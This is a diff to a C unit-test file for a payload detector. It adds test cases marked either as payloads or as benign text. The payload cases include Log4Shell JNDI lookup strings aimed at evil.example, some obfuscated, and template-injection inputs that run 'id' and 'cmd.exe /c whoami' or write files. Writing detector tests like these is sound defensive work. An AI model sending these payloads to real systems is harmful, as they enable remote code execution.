@@ -169,8 +169,39 @@ static void test_jndi_grammar(void **st)
 		{"${sys:user.home}", J},
 		{"${::-$}{jndi:ldap://evil/a}", J},
 		{"${jndi:ldap://x.example:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZA==}", J},
+		/* a copied payload closing its braces one early: the scheme's
+		 * lookup and "://host" right after it */
+		{"${${lower:j}${upper:n}${lower:d}${upper:i}:${lower:r}m${lower:i}}://evil.example/a}", J},
+		{"${jndi:ldap}://evil.example/a", J},
+		{"Block ${jndi:ldap} and ${jndi:rmi}: see https://logging.apache.org/security", N},
+		{"${jndi:ldap} ://not-a-url", N},
 	};
 	run_vtable("jndi-grammar", t, sizeof(t) / sizeof(t[0]));
+}
+
+/* Template engines reached without the usual delimiters: Velocity's and
+ * Razor's references with no braces ($class..., @System...), Smarty's
+ * internal classes from a tag, Handlebars' walk to a constructor through
+ * lookup, JsRender's {{: }}; and the same shapes in code that must stay
+ * quiet (jQuery's $el.x(), LESS's @{name}, a mention of java.lang). */
+#define T PAYLOAD_SSTI
+static void test_ssti_forms(void **st)
+{
+	(void)st;
+	static const struct qcase t[] = {
+		{"$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\")", T},
+		{"@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")", T},
+		{"{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"x\",self::clearConfig())}", T},
+		{"{{#with split as |conslist|}}{{this.push (lookup string.sub \"constructor\")}}{{/with}}", T},
+		{"{{:7*7}}", T},
+		{"$el.addClass('active').show()", N},
+		{"Hello @john.doe, see $user.profile", N},
+		{".@{prefix}-button { color: red; }", N},
+		{"{{> header}}", N},
+		{"java.lang.String is immutable", N},
+		{"{\"make\": \"constructor\", \"model\": \"x\"}", N},
+	};
+	run_vtable("ssti-forms", t, sizeof(t) / sizeof(t[0]));
 }
 
 /* A server fetches a value that is a URL: one in prose ("curl
@@ -443,6 +474,7 @@ int main(void)
 	const struct CMUnitTest tests[] = {
 		cmocka_unit_test(test_ssrf_redirect_uri),
 		cmocka_unit_test(test_jndi_grammar),
+		cmocka_unit_test(test_ssti_forms),
 		cmocka_unit_test(test_ssrf_prose),
 		cmocka_unit_test(test_ssrf_hosts),
 		cmocka_unit_test(test_ssrf_headers),
